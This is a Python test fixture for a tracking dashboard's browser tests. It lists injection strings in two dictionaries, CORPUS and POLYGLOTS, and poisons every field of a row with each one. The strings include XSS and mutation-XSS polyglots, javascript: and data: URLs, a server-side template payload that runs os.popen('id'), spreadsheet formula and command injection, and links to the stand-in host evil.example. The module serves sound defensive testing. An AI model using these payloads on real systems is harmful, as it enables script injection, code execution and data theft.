"""Strings that a carrier should not send, and every place on the wire that a string can come in by."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import timedelta

from dashboard.rows import wall_row
from tests.browser.plant import NOW, changed, coming, minutes, row_at, warned
from tracking.board import Risk, Row, Talk
from tracking.plan import Line
from tracking.state import Milestone

CORPUS = {
    "script": "<script>broken=1</script>",
    "script with a slash": "<script/src=//evil.example/x.js></script>",
    "image": "<img src=x onerror=broken=1>",
    "image of another origin": "<img src=http://evil.example/x.png>",
    "svg": "<svg onload=broken=1>",
    "svg in svg": "<svg><script>broken=1</script></svg>",
    "body": "<body onload=broken=1>",
    "iframe": "<iframe src=javascript:broken=1></iframe>",
    "iframe with a page": "<iframe srcdoc='<script>parent.broken=1</script>'></iframe>",
    "link": "<a href=javascript:broken=1>x</a>",
    "javascript address": "javascript:broken=1//",
    "html address": "data:text/html,<script>broken=1</script>",
    "animation": "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=broken=1>",
    "input": "<input autofocus onfocus=broken=1>",
    "details": "<details open ontoggle=broken=1>",
    "base": "<base href=http://evil.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=http://evil.example">',
    "end of style": "</style><script>broken=1</script>",
    "end of title": "</title><script>broken=1</script>",
    "comment": "--><script>broken=1</script><!--",
    "quotes": "\" onmouseover=\"broken=1\" x=' onfocus='broken=1' `",
    "double encoding": "&lt;script&gt;broken=1&lt;/script&gt;&#x27;",
    "style": "red;background:url(http://evil.example/x.png)",
    "templates": "{{constructor.constructor('broken=1')()}}",
    "template literal": "${broken=1}",
    "plural": "{count, plural, one {#} other {#}}",
    "format": "%s%n%d%(x)s",
    "prototype": "__proto__",
    "constructor": "constructor",
    "own name": "toString",
    "expression": '["get","risk"]',
    "token of a map": "{name} {risk}",
    "address of a map": "earth://{z}/{x}/{y}",
    "path": "../../wall/x?layout=map#y",
    "selector": "'],*{display:none}/*",
    "list": "D01|S017/late,D02-D03",
    "null": "a\0b",
    "controls": "\x07\x1b[2J\x7f\x9b31m",
    "lines": "one\r\ntwo\n\n\nthree\u2028four",
    "tabs": "a\t\t\t\tb",
    "turned": "\u202eesrever\u2066\u2067\u202d",
    "right to left": "\u05d0\u05d1\u05d2 12 \u0645\u062d\u0637\u0629",
    "invisible": "a\u200b\u200b\u2060\ufeff\u00ad\u180eb",
    "nothing seen": "\u200b\u2060",
    "marks": "Z" + "\u0301\u0316\u0334\u0489" * 60 + "x",
    "emoji": "🚛" * 20 + "👩\u200d👩\u200d👧\u200d👦🏳️\u200d🌈",
    "half a letter": "a\ud83d b \udc00",
    "no letters": "\U000e0001\ufffe\uffff",
    "long word": "W" * 10_000,
    "long words": "wide words " * 1_000,
    "empty": "",
}
POLYGLOTS = {
    "many places at once": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=broken=1 )//%0D%0A//</stYle/</titLe/"
    "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=broken=1//>\\x3e",
    "any quote": "'\"`><img src=x onerror=broken=1><svg/onload=broken=1>",
    "any end": "--></title></style></textarea></noscript></script><svg onload=broken=1>",
    "mutation by a title": '<noscript><p title="</noscript><img src=x onerror=broken=1>">',
    "mutation by a style": '<svg></p><style><a id="</style><img src=x onerror=broken=1>">',
    "mutation by mathematics": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=x onerror=broken=1&gt;">',
    "mathematics": "<math href=javascript:broken=1><mi xlink:href='data:text/html,x'>x</mi></math>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>top.broken=1</script>'></foreignObject></svg>",
    "animated link": "<svg><a><animate attributeName=href values=javascript:broken=1 /><text>x</text></a></svg>",
    "use of an svg": "<svg><use href='data:image/svg+xml,<svg id=x onload=broken=1 />#x'/>",
    "address with a tab": "java\tscript:broken=1//",
    "address with a control": "\x01javascript:broken=1//",
    "address in letters": "javascript&colon;broken&equals;1//",
    "address of a script": "vbscript:broken=1//",
    "svg address": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InRvcC5icm9rZW49MSIvPg==",
    "other host": "//evil.example/%2e%2e",
    "other host by backslash": "/\\evil.example/\\",
    "server's template": "{{7*191}}{% print 7*191 %}${7*191}#{7*191}<%= 7*191 %>[[${7*191}]]",
    "server's objects": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "entities": "&#60;img src=x onerror=broken=1&#62;&NewLine;&Tab;&lt;b&gt;",
    "wide letters": "\uff1cscript\uff1ebroken=1\uff1c/script\uff1e",
    "escapes": "\\u003cscript\\u003ebroken=1\\x3c/script\\x3e",
    "bytes of markup": "+ADw-script+AD4-broken=1+ADw-/script+AD4-",
    "line in an attribute": "x\nonmouseover=broken=1\naccesskey=x autofocus onfocus=broken=1 ",
    "formula": '=HYPERLINK("http://evil.example/","x")',
    "command": "@SUM(1+9)*cmd|' /C calc'!A0",
}
"""What is made for pages: many places at once, what a cleaner turns into markup, addresses, templates, spreadsheets."""
TOO_LONG = {"long word", "long words", "marks", "emoji", "half a letter", "nothing seen", "empty"}
"""Of the corpus what tells nothing of markup, or cannot be stored or seen."""
EVERYWHERE = {name: word for name, word in (CORPUS | POLYGLOTS).items() if name not in TOO_LONG}
VOCABULARY = {"milestone", "risk", "kind", "severity", "shape", "zone", "hours"}
"""Fields whose words are ours; a wall must outlive wrong ones too, but a right one has to be known to be drawn."""


def full_row() -> Row:
    """A row with nothing left out, so that each field of the wire is there to be poisoned."""
    late = coming(row_at(2, 4, NOW), Risk.LATE, (51.31, 9.48), NOW)
    assert late.eta is not None
    [warning] = warned(late, Risk.LATE, NOW, -12)
    return changed(
        late,
        risk=Risk.LATE,
        lines=(Line(part="P-1", quantity=4),),
        reached={Milestone.DEPARTED: NOW - timedelta(hours=3)},
        silent_since=NOW - minutes(9),
        p_late=0.9,
        p_early=0.01,
        conflicts=("S017",),
        warnings=(warning,),
        trail=((51.2, 11.9), (51.3, 12.0)),
        talk=Talk(last_at=NOW, unanswered=1, proposals=1),
    )


def poisoned(wire: object, word: str, *, spare: set[str] = VOCABULARY, name: str = "") -> object:
    """A copy of anything on the wire with each string in it replaced, but for the fields in `spare`."""
    match wire:
        case str():
            return wire if name in spare else word
        case dict():
            return {key: poisoned(value, word, spare=spare, name=key) for key, value in wire.items()}
        case list() | tuple():
            return [poisoned(one, word, spare=spare, name=name) for one in wire]
    return wire


def leaves(wire: object, name: str = "") -> Iterator[tuple[str, object]]:
    """Each value at the ends of something on the wire, with the name of its field; an empty list is one."""
    inner: list[tuple[str, object]] = []
    match wire:
        case dict():
            inner = list(wire.items())
        case list() | tuple():
            inner = [(name, one) for one in wire]
    if not inner:
        yield name, wire
    for key, value in inner:
        yield from leaves(value, key)


def full_wire() -> dict[str, object]:
    return wall_row(full_row())
